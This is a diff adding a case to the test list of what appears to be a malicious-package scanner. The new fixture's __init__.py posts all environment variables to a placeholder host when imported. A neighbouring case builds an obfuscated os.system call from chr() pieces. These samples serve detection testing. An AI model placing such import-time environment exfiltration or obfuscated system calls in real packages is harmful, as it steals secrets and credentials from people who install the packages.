@@ -27,6 +27,13 @@ def _sdist(technique: str, name: str, body: str, rules: tuple[str, ...]) -> Case
 
 
 CASES = [
+    Case("network library imported in a sibling module, called through its attribute",
+         "sibling-lib", {
+             "sibling_lib/compat.py": "import requests as requests_\n",
+             "sibling_lib/__init__.py": (
+                 "import os\nfrom . import compat\n\n"
+                 "compat.requests_. post('https://k.x.invalid/u', data=dict(os.environ))\n"),
+         }, "malicious", ("PV303",), kind="wheel"),
     _wheel("getattr(__import__(chr(111)+chr(115)), 'sy'+'stem')", "names-chr-getattr",
            "getattr(__import__(chr(111) + chr(115)), 'sy' + 'stem')('echo pwned')\n",
            ("PV211",)),
